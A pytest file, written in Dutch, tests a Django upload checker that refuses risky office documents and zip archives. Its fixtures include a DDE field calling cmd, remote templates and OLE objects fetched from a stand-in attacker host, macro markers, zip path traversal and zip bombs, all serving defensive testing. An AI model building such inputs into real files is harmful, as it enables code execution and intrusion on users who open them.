"""Documents of office programs: accepted as they are, unless they run, fetch, hide or lie."""

import zipfile
from io import BytesIO

import pytest
from django.core.files.base import ContentFile

from portaal.kern.bestanden import BestandGeweigerd, check_upload

from .corpus import (
    BRIEF,
    DOCM,
    DOCX,
    EICAR,
    ODS,
    ODT,
    XLSX,
    doc,
    external,
    msg,
    odf,
    office,
    pack,
    picture,
    with_flag,
    xls,
    xls_sheet,
)

GRAFIEK = office(XLSX)
GOED = {
    "Word": (office(), "brief.docx"),
    "Word met koppeling": (office(relaties=external("hyperlink", "https://voorbeeld.example")), "brief.docx"),
    "Word met eigen sjabloon": (
        office(relaties=external("attachedTemplate", r"file:///C:\Users\sanne\Normal.dotm")),
        "brief.docx",
    ),
    "Word met grafiek": (office(**{"word__embeddings__getallen.xlsx": GRAFIEK}), "brief.docx"),
    "Word over DDE": (office(tekst="<w:p><w:t>Wij gebruiken DDE</w:t></w:p>"), "brief.docx"),
    "Excel": (office(XLSX), "lijst.xlsx"),
    "LibreOffice tekst": (odf(ODT), "brief.odt"),
    "LibreOffice rekenblad": (odf(ODS), "lijst.ods"),
    "Word van vroeger": (doc(), "brief.doc"),
    "Excel van vroeger": (xls(xls_sheet(0)), "lijst.xls"),
    "Outlook": (msg(), "bericht.msg"),
}
PROGRAMMA, OPHALEN, LEZEN, SLOT = "macro", "andere plek", "niet lezen", "wachtwoord"
FOUT = {
    "zip die docx heet": (pack({"a.txt": "hallo"}), "brief.docx", LEZEN),
    "Excel die docx heet": (office(XLSX), "brief.docx", LEZEN),
    "docm die docx heet": (office(DOCM), "brief.docx", PROGRAMMA),
    "docx met vbaProject": (office(**{"word__vbaProject.bin": b"x"}), "brief.docx", PROGRAMMA),
    "docx met ActiveX": (office(**{"word__activeX__activeX1.xml": "<a/>"}), "brief.docx", PROGRAMMA),
    "docx met OLE": (office(**{"word__embeddings__oleObject1.bin": b"x"}), "brief.docx", PROGRAMMA),
    "docx met programma erin": (office(**{"word__embeddings__spel.exe": b"MZ"}), "brief.docx", PROGRAMMA),
    "docx in docx in docx": (
        office(**{"word__embeddings__a.docx": office(**{"word__embeddings__b.docx": office()})}),
        "brief.docx",
        PROGRAMMA,
    ),
    "docx met macro in ingebed blad": (
        office(**{"word__embeddings__a.xlsx": office(XLSX, **{"xl__vbaProject.bin": b"x"})}),
        "brief.docx",
        PROGRAMMA,
    ),
    "docx met DDE": (
        office(tekst="<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd</w:instrText>"),
        "brief.docx",
        PROGRAMMA,
    ),
    "docx met DDE in entiteit": (office(tekst='<w:fldSimple w:instr="&#68;DE x"/>'), "brief.docx", PROGRAMMA),
    "docx met sjabloon van elders": (
        office(relaties=external("attachedTemplate", "https://aanvaller.example/a.dotm")),
        "brief.docx",
        OPHALEN,
    ),
    "docx met OLE van elders": (
        office(relaties=external("oleObject", "https://aanvaller.example/a.html")),
        "brief.docx",
        OPHALEN,
    ),
    "docx met DTD": (
        office(**{"word__extra.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "brief.docx",
        LEZEN,
    ),
    "docx zonder inhoudsopgave": (pack({"word/document.xml": "<a/>"}), "brief.docx", LEZEN),
    "docx met kapotte xml": (office(tekst="<w:p>"), "brief.docx", LEZEN),
    "docx met iets ervoor": (b"<html></html>" + office(), "brief.docx", "past niet"),
    "docx met iets erachter": (office() + b"<html></html>", "brief.docx", LEZEN),
    "docx die na PK iets anders is": (b"PK\x03\x04<html>" + office(), "brief.docx", LEZEN),
    "docx met slot": (with_flag(office(), 1), "brief.docx", SLOT),
    "docx met slot van Office": (doc("EncryptedPackage"), "brief.docx", "past niet"),
    "zip die odt heet": (pack({"mimetype": "text/plain"}), "brief.odt", LEZEN),
    "ods die odt heet": (odf(ODS), "brief.odt", LEZEN),
    "odt met Basic": (odf(**{"Basic__Standard__Module1.xml": "<a/>"}), "brief.odt", PROGRAMMA),
    "odt met script": (odf(**{"Scripts__python__a.py": "x"}), "brief.odt", PROGRAMMA),
    "odt met gebeurtenis": (odf(tekst='<s:event-listener s:href="x"/>'), "brief.odt", PROGRAMMA),
    "odt met OLE": (
        odf(manifest='<m:file-entry m:media-type="application/vnd.sun.star.oleobject"/>'),
        "brief.odt",
        PROGRAMMA,
    ),
    "odt met slot": (odf(manifest="<m:encryption-data/>"), "brief.odt", SLOT),
    "doc met macro's": (doc("Macros/"), "brief.doc", PROGRAMMA),
    "doc met VBA": (doc("_VBA_PROJECT"), "brief.doc", PROGRAMMA),
    "doc met object": (doc("ObjectPool/"), "brief.doc", PROGRAMMA),
    "doc met slot": (doc(vlaggen=0x0100), "brief.doc", SLOT),
    "xls die doc heet": (xls(), "brief.doc", LEZEN),
    "xls met macroblad": (xls(xls_sheet(1)), "lijst.xls", PROGRAMMA),
    "xls met slot": (xls((0x2F, b"\0" * 4)), "lijst.xls", SLOT),
    "msg met bijlage": (msg("__attach_version1.0_#00000000"), "bericht.msg", "bijlagen"),
    "halve doc": (doc()[:700], "brief.doc", LEZEN),
    "alleen kop van OLE": (doc()[:8], "brief.doc", LEZEN),
}


@pytest.mark.parametrize("geval", GOED)
def test_accepted_as_it_is(geval: str) -> None:
    inhoud, naam = GOED[geval]
    bestand = check_upload(ContentFile(inhoud, name=naam))
    assert (bestand.inhoud, bestand.bestandsnaam) == (inhoud, naam)


@pytest.mark.parametrize("geval", FOUT)
def test_refused_with_what_to_do(geval: str) -> None:
    inhoud, naam, melding = FOUT[geval]
    with pytest.raises(BestandGeweigerd, match=melding):
        check_upload(ContentFile(inhoud, name=naam))


def bomb() -> bytes:
    return pack({"a.txt": b"0" * 60_000_000})


ZIP_FOUT = {
    "zip met programma": (pack({"spel.exe": b"MZ"}), "spel.exe"),
    "zip in zip": (pack({"b.zip": pack({"a.txt": "x"})}), "b.zip"),
    "zip met docm": (pack({"a.docx": office(DOCM)}), "macro"),
    "zip met html als pdf": (pack({"a.pdf": b"<html>%PDF-1.4"}), "past niet bij de naam"),
    "zip met slot": (with_flag(pack({"a.txt": "x"}), 1), "wachtwoord"),
    "zip die uit zijn map wil": (pack({"../../etc/a.txt": "x"}), "niet lezen"),
    "zip naar een schijf": (pack({"C:\\a.txt": "x"}), "niet lezen"),
    "zip van de wortel": (pack({"/etc/a.txt": "x"}), "niet lezen"),
    "zipbom": (bomb(), "veel te groot"),
    "zipbom van velen": (pack({f"{n}.txt": b"0" * 600_000 for n in range(200)}), "veel te groot"),
    "te veel bestanden": (pack({f"{n}.txt": "x" for n in range(21)}), "hoogstens 20"),
    "lege zip": (pack({}), "leeg"),
    "alleen van de Mac": (pack({"__MACOSX/._a.txt": "x"}), "zit niets"),
    "kapotte zip": (pack({"a.txt": "x" * 99}, zipfile.ZIP_STORED).replace(b"xxxx", b"yyyy", 1), "niet lezen"),
    "halve zip": (pack({"a.txt": "x" * 99})[:60], "niet lezen"),
}


@pytest.mark.parametrize("geval", ZIP_FOUT)
def test_zip_is_refused(geval: str) -> None:
    inhoud, melding = ZIP_FOUT[geval]
    with pytest.raises(BestandGeweigerd, match=melding):
        check_upload(ContentFile(inhoud, name="fotos.zip"))


def test_zip_with_the_same_name_twice_is_refused() -> None:
    uit = BytesIO()
    with zipfile.ZipFile(uit, "w") as archief, pytest.warns(UserWarning, match="Duplicate"):
        archief.writestr("a.txt", "een")
        archief.writestr("a.txt", "twee")
    with pytest.raises(BestandGeweigerd, match="niet lezen"):
        check_upload(ContentFile(uit.getvalue(), name="a.zip"))


def test_zip_is_packed_anew_with_checked_files_only() -> None:
    """Photos drawn anew, names cleaned, the extras of a Mac left out, a virus left for the scanner to find."""
    exif = picture() + b"<script>1</script>"
    oud = pack(
        {
            "map/foto.jpg": exif,
            "andere map/foto.jpg": picture(),
            "brief.pdf": BRIEF,
            "eicar.txt": EICAR,
            "__MACOSX/map/._foto.jpg": b"x",
            "map/.DS_Store": b"x",
        }
    )
    bestand = check_upload(ContentFile(oud, name="Alles bij elkaar.ZIP"))
    assert (bestand.bestandsnaam, bestand.formaat) == ("Alles bij elkaar.zip", "application/zip")
    with zipfile.ZipFile(BytesIO(bestand.inhoud)) as nieuw:
        assert nieuw.namelist() == ["foto.jpg", "foto-2.jpg", "brief.pdf", "eicar.txt"]
        assert b"script" not in nieuw.read("foto.jpg")
        assert (nieuw.read("brief.pdf"), nieuw.read("eicar.txt")) == (BRIEF, EICAR)


def test_a_field_may_take_less() -> None:
    pdf_en_foto = {".pdf", ".jpg", ".jpeg", ".png", ".heic"}
    with pytest.raises(BestandGeweigerd, match=r"Stuur pdf of foto \(jpg, png of heic\)\."):
        check_upload(ContentFile(office(DOCX), name="brief.docx"), formaten=pdf_en_foto)
    with pytest.raises(BestandGeweigerd, match=r"a\.docx"):
        check_upload(
            ContentFile(pack({"a.docx": office(DOCX)}), name="a.zip"), formaten={*pdf_en_foto, ".zip"}
        )
    assert check_upload(ContentFile(BRIEF, name="a.pdf"), formaten=pdf_en_foto).inhoud == BRIEF
